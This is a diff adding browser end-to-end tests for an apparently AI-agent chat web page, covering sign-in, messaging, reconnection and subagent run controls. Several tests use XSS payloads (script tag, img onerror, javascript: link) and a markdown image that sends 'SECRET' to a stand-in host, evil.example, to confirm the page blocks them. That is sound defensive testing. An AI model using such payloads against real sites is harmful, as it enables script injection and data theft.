@@ -1,0 +1,267 @@
+import type { Browser, BrowserContext, Page } from "playwright-core";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { Address } from "../../../src/core/address.ts";
+import { newId } from "../../../src/core/ids.ts";
+import { signInUrl } from "../../../src/web/token.ts";
+import { BROWSER_NOTE, hasBrowser, launchBrowser } from "../../support/browser.ts";
+import { startWeb, until, type WebFixture } from "../../support/web-server.ts";
+
+const MAIN: Address = { channel: "web", account: "local", chat: "main", kind: "dm" };
+const ATTACK = "<script>window.pwned=1</script><img src=x onerror='window.pwned=1'>";
+
+describe.skipIf(!hasBrowser)(`the page${BROWSER_NOTE}`, () => {
+  let browser: Browser;
+  let context: BrowserContext;
+  let web: WebFixture;
+  let requested: string[];
+  let problems: string[];
+
+  beforeAll(async () => {
+    browser = await launchBrowser();
+  });
+
+  afterAll(async () => {
+    await browser.close();
+  });
+
+  beforeEach(async () => {
+    web = await startWeb();
+    context = await browser.newContext({ viewport: { width: 1200, height: 800 }, reducedMotion: "reduce" });
+    context.setDefaultTimeout(10_000);
+    requested = [];
+    problems = [];
+    context.on("request", (request) => requested.push(request.url()));
+    context.on("weberror", (error) => problems.push(error.error().message));
+    context.on("console", (message) => {
+      if (/Content Security Policy|Uncaught/.test(message.text())) problems.push(message.text());
+    });
+  });
+
+  afterEach(async () => {
+    await context.close();
+    await web.close();
+    expect(problems).toEqual([]);
+  });
+
+  async function openPage(): Promise<Page> {
+    const page = await context.newPage();
+    await page.goto(signInUrl(web.url, web.token));
+    await page.waitForSelector("#app", { state: "visible" });
+    return page;
+  }
+
+  const texts = (page: Page, selector = "#messages .body") => page.locator(selector).allInnerTexts();
+  const saw = (page: Page, expected: string[]) =>
+    until(async () => JSON.stringify(await texts(page)) === JSON.stringify(expected), expected.join());
+
+  it("[SC3] the link signs in, leaves the address bar, and the token stays nowhere", async () => {
+    const page = await openPage();
+    expect(page.url()).toBe(`${web.url}/`);
+    const kept = await page.evaluate(
+      "JSON.stringify([document.cookie, {...localStorage}, {...sessionStorage}, document.documentElement.outerHTML])",
+    );
+    expect(kept).not.toContain(web.token);
+    const [cookie] = await context.cookies(`${web.url}/api/chats`);
+    expect(cookie).toMatchObject({ httpOnly: true, sameSite: "Strict", path: "/api" });
+    expect(requested.some((url) => url.includes(web.token) && !url.includes("#"))).toBe(false);
+  });
+
+  it("[SC3] without a cookie it asks for the token and says when it is wrong", async () => {
+    const page = await context.newPage();
+    await page.goto(web.url);
+    await page.fill("#token", "wrong");
+    await page.keyboard.press("Enter");
+    await page.locator("#sign-in-error", { hasText: "not right" }).waitFor();
+    await page.fill("#token", signInUrl(web.url, web.token));
+    await page.keyboard.press("Enter");
+    await page.waitForSelector("#empty", { state: "visible" });
+    expect(await page.locator("#examples button").count()).toBe(3);
+  });
+
+  it("[WB1] [WB2] Enter sends, Shift+Enter makes a line, every tab and a reload show the same", async () => {
+    const [page, other] = [await openPage(), await openPage()];
+    await page.bringToFront();
+    await page.focus("#text");
+    await page.keyboard.type("first");
+    await page.keyboard.press("Shift+Enter");
+    await page.keyboard.type("second");
+    await page.keyboard.press("Enter");
+    await saw(page, ["first\nsecond"]);
+    await web.say("**done**");
+    for (const tab of [page, other]) await saw(tab, ["first\nsecond", "done"]);
+    await page.reload();
+    await saw(page, ["first\nsecond", "done"]);
+    expect(web.inbox().map((row) => row.raw.text)).toEqual(["first\nsecond"]);
+    expect(await page.inputValue("#text")).toBe("");
+  });
+
+  it("[WB1] hostile text is shown as text and runs nothing", async () => {
+    const page = await openPage();
+    await page.fill("#text", ATTACK);
+    await page.keyboard.press("Enter");
+    await web.say(`${ATTACK}\n\n[x](javascript:window.pwned=1)\n\n\`\`\`html\n${ATTACK}\n\`\`\``, {
+      buttons: [{ label: ATTACK, command: "/stop" }],
+    });
+    web.runs.push({
+      ...{ id: newId(), shortId: "1a2b3c4d", label: ATTACK, state: "running", delivery: "none", requesterKey: "k", chat: "main", depth: 1 },
+      ...{ createdAt: 1, startedAt: 1, endedAt: null, doing: ATTACK, tokens: 5, costUsd: 0.001, position: null },
+    });
+    web.bus.emit({ type: "run.changed", runId: "x", requesterKey: "k" });
+    web.bus.emit({ type: "turn.started", sessionKey: "k", address: MAIN, turnId: "t" });
+    web.bus.emit({ type: "turn.doing", sessionKey: "k", address: MAIN, runId: null, doing: ATTACK });
+    web.bus.emit({ type: "turn.text", sessionKey: "k", address: MAIN, turnId: "t", text: ATTACK });
+    await page.waitForSelector("#draft", { state: "visible" });
+    await page.waitForSelector(".run");
+    expect(await page.textContent("#draft")).toContain("<script>");
+    expect(await page.textContent(".run-label")).toBe(ATTACK);
+    await page.locator("#chat-title", { hasText: "<script>" }).waitFor();
+    expect(await page.textContent("#messages .agent pre")).toContain(ATTACK);
+    expect(await page.locator("#app script, #messages img, #draft img, .run img").count()).toBe(0);
+    await page.click("#messages a:has-text('x')");
+    expect(await page.evaluate("window.pwned")).toBeUndefined();
+  });
+
+  it("[WB2] nothing is asked from another host", async () => {
+    const page = await openPage();
+    await web.say("![x](https://evil.example/?q=SECRET) ![y](//evil.example/y.png) https://evil.example");
+    await page.locator("#messages .body", { hasText: "x (evil.example)" }).waitFor();
+    await page.goto(`${web.url}/?gatewayUrl=ws://evil.example:1`);
+    await page.locator("#messages .body", { hasText: "x (evil.example)" }).waitFor();
+    expect(requested.length).toBeGreaterThan(10);
+    expect(requested.filter((url) => new URL(url).origin !== web.url)).toEqual([]);
+  });
+
+  it("[WB2] fits a phone, whatever is written, and the drawer works by keyboard", async () => {
+    await web.say(`${"wide".repeat(200)}\n\n\`\`\`\n${"code ".repeat(200)}\n\`\`\`\n\n| ${"cell | ".repeat(30)}\n|${"---|".repeat(30)}`);
+    const page = await openPage();
+    await page.setViewportSize({ width: 360, height: 700 });
+    await page.locator("#messages .agent").waitFor();
+    const widths = () => page.evaluate("[document.documentElement.scrollWidth, document.getElementById('scroll').scrollWidth]");
+    expect(await widths()).toEqual([360, 360]);
+    await page.focus("#open-sidebar");
+    await page.keyboard.press("Enter");
+    await page.waitForSelector("#new-chat", { state: "visible" });
+    expect(await widths()).toEqual([360, 360]);
+    await page.keyboard.press("Escape");
+    await page.waitForSelector("#new-chat", { state: "hidden" });
+    expect(await page.evaluate("document.activeElement.id")).toBe("open-sidebar");
+  });
+
+  it("[AG4] shows the text as it grows, what it does, and Stop; then the message in its place", async () => {
+    const page = await openPage();
+    const turn = { sessionKey: "k", address: MAIN, turnId: "t" };
+    web.bus.emit({ type: "turn.started", ...turn });
+    web.bus.emit({ type: "turn.doing", sessionKey: "k", address: MAIN, runId: null, doing: "read a.md" });
+    web.bus.emit({ type: "turn.text", ...turn, text: "So *far*" });
+    await page.locator("#draft em", { hasText: "far" }).waitFor();
+    await page.locator("#working-text", { hasText: "Working… (read a.md)" }).waitFor();
+    await page.click("#stop");
+    await until(() => web.inbox().length === 1);
+    expect(web.inbox()[0]?.raw).toMatchObject({ text: "/stop", kind: "button", chat: "main" });
+    await web.say("So far, so good");
+    web.bus.emit({ type: "turn.ended", ...turn, outcome: "ok" });
+    await page.waitForSelector("#working", { state: "hidden" });
+    await page.waitForSelector("#draft", { state: "hidden" });
+    await saw(page, ["So far, so good"]);
+  });
+
+  it("[WB2] over a lost connection nothing is lost or doubled, in either direction", async () => {
+    const page = await openPage();
+    await web.say("before");
+    await saw(page, ["before"]);
+    await web.server.close();
+    await page.waitForSelector("#banner", { state: "visible" });
+    await page.fill("#text", "typed while away");
+    await page.keyboard.press("Enter");
+    await page.waitForSelector("#pending .failed");
+    await web.say("missed");
+    await web.restart();
+    await saw(page, ["before", "missed", "typed while away"]);
+    await page.waitForSelector("#banner", { state: "hidden" });
+    expect(await page.locator("#pending li").count()).toBe(0);
+    expect(web.inbox()).toHaveLength(1);
+  });
+
+  it("[WB2] a message that could not be sent survives a reload and is sent once", async () => {
+    const page = await openPage();
+    // The answer is lost after the server took it: the page can't know.
+    let dropped = 0;
+    await page.route("**/api/chats/main/messages", async (route) => {
+      if (route.request().method() !== "POST" || dropped++ > 0) return route.continue();
+      await route.fetch();
+      return route.abort();
+    });
+    await page.fill("#text", "once");
+    await page.keyboard.press("Enter");
+    await saw(page, ["once"]);
+    await page.reload();
+    await saw(page, ["once"]);
+    expect(await page.locator("#pending li").count()).toBe(0);
+    expect(web.inbox()).toHaveLength(1);
+  });
+
+  it("[WB1] unsent words wait in their chat; a new chat is another session; back goes back", async () => {
+    const page = await openPage();
+    await page.fill("#text", "half a thought");
+    await page.click("#new-chat");
+    await until(async () => (await page.inputValue("#text")) === "");
+    await page.fill("#text", "hello there");
+    await page.keyboard.press("Enter");
+    await saw(page, ["hello there"]);
+    expect(String(web.inbox()[0]?.raw.chat)).toMatch(/^[0-9a-f-]{36}$/);
+    await page.goBack();
+    await until(async () => (await page.inputValue("#text")) === "half a thought");
+    await saw(page, []);
+    await page.locator(".chat-link", { hasText: "hello there" }).click();
+    await saw(page, ["hello there"]);
+  });
+
+  it("[WB1] scrolling up loads what came before, in place", async () => {
+    for (let n = 0; n < 75; n++) web.messages.post({ chat: "main", key: `k${n}`, author: "agent", text: `message ${n}` });
+    const page = await openPage();
+    await until(async () => (await texts(page)).length === 30);
+    await until(async () => {
+      await page.evaluate("document.getElementById('scroll').scrollTop = 0");
+      return (await texts(page)).length === 75;
+    });
+    expect(await texts(page)).toEqual(Array.from({ length: 75 }, (_, n) => `message ${n}`));
+    await page.waitForSelector("#earlier", { state: "hidden" });
+  });
+
+  it("[WB1] a run can be stopped and sent words; a running update does not take them away", async () => {
+    const id = newId();
+    const run = {
+      id,
+      shortId: id.slice(0, 8),
+      label: "Count lines",
+      state: "running",
+      delivery: "none",
+      requesterKey: "k",
+      chat: "main",
+      depth: 1,
+    } as const;
+    web.runs.push({ ...run, createdAt: 1, startedAt: 1, endedAt: null, doing: null, tokens: 11_200, costUsd: 0.12, position: null });
+    const page = await openPage();
+    await page.locator(".run-line", { hasText: "11.2k tokens · $0.12" }).waitFor();
+    await page.click(".run-actions button:has-text('Send')");
+    await page.keyboard.type("hurry ");
+    web.runs.splice(0, 1, {
+      ...run,
+      createdAt: 1,
+      startedAt: 1,
+      endedAt: null,
+      doing: "step 2",
+      tokens: 12_000,
+      costUsd: null,
+      position: null,
+    });
+    web.bus.emit({ type: "run.changed", runId: id, requesterKey: "k" });
+    await page.locator(".run-line", { hasText: "running · step 2" }).waitFor();
+    await page.keyboard.type("up");
+    await page.keyboard.press("Enter");
+    await page.click(".run-actions button:has-text('Stop')");
+    await until(() => web.inbox().length === 2);
+    expect(web.inbox().map((row) => row.raw.text)).toEqual([`/subagents send ${id} hurry up`, `/subagents stop ${id}`]);
+    expect(await texts(page)).toEqual([]);
+  });
+});
